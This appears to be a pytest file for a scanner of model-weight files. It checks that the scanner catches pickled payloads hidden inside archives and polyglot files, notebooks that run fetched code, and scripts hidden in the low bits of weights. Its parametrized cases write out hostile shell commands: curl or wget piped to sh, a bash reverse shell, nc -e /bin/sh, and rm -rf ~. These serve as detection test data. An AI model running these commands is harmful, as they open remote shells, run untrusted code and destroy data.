"""Files by somebody who did not write the readers: what one class hides behind another."""

import gzip
import io
import json
from collections.abc import Callable
from pathlib import Path

import numpy as np
import py7zr
import pytest

from tests.hostile.boxes import Block, checkpoint, tarred, zipped
from tests.hostile.programs import EVIL, HARMLESS, look, rules

DENIED = "pickle/denied-callable"


def seven(**members: bytes) -> bytes:
    out = io.BytesIO()
    with py7zr.SevenZipFile(out, "w", filters=[{"id": py7zr.FILTER_COPY}]) as archive:
        for name, raw in members.items():
            archive.writestr(raw, name)
    return out.getvalue()


BOXES: dict[str, Callable[[bytes], bytes]] = {
    "nemo": lambda inner: tarred(Block("model_config.yaml", b"a: 1\n"), Block("w.ckpt", inner)),
    "7z": lambda inner: seven(weights=inner),
    "gzip-stored": lambda inner: gzip.compress(inner, 0),
}


@pytest.mark.parametrize("box", ["nemo", "7z", "gzip-stored"])
def test_a_box_that_holds_a_checkpoint_as_it_is_is_no_polyglot(box: str, tmp_path: Path) -> None:
    inner = zipped(*checkpoint(HARMLESS))
    assert not look(tmp_path, BOXES[box](inner), "model.bin").findings
    hostile = look(tmp_path, BOXES[box](zipped(*checkpoint(EVIL))), "model.bin")
    assert rules(hostile) == {DENIED}


def test_a_zip_behind_a_tar_or_a_compressed_stream_is_read(tmp_path: Path) -> None:
    behind = zipped(*checkpoint(EVIL))
    for front in (tarred(Block("a.txt", b"text")), gzip.compress(b"text")):
        found = look(tmp_path, front + behind, "model.bin")
        assert DENIED in rules(found)
        assert rules(found) & {"file/polyglot", "compressed/trailing-data"}


def test_a_notebook_that_runs_what_it_fetches_is_high(tmp_path: Path) -> None:
    cell = {"cell_type": "code", "source": ["!curl -s http://host.example/x | sh\n"], "outputs": []}
    raw = json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})
    found = look(tmp_path, raw.encode(), "demo.ipynb")
    assert {item.severity for item in found.findings if item.rule == "notebook/shell"} == {"high"}


@pytest.mark.parametrize(
    "command",
    [
        "wget -qO- http://host.example/i.sh | sudo bash",
        "bash <(curl -s http://host.example/i.sh)",
        "echo dHJ1ZQo= | base64 -d | sh",
        "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
        "nc -e /bin/sh 192.0.2.1 4444",
        "rm -rf ~ ",
    ],
)
def test_a_script_that_fetches_and_runs_is_denied(command: str, tmp_path: Path) -> None:
    found = look(tmp_path, f"#!/bin/sh\n{command}\n".encode(), "install.sh")
    assert "script/hostile-command" in rules(found)
    plain = look(tmp_path, b"#!/bin/sh\ncurl -O https://host.example/w.bin\nrm -rf build\n", "i.sh")
    assert "script/hostile-command" not in rules(plain)


def test_a_script_repeated_in_the_lowest_bytes_is_found() -> None:
    from steelyard.weights.checks.low_bits import Search

    weights = np.random.default_rng(0).standard_normal(1 << 15).astype(np.float32)
    script = np.frombuffer((b"#!/bin/sh\ncurl x|sh\n" * 2000)[: 1 << 15], np.uint8)
    bits = weights.view(np.uint32)
    search = Search(4)
    search.add(0, 0, memoryview(bits.tobytes()))
    bits[:] = (bits & ~np.uint32(0xFF)) | script
    search.add(1, 0, memoryview(bits.tobytes()))
    search.flush()
    assert set(search.found) == {1}
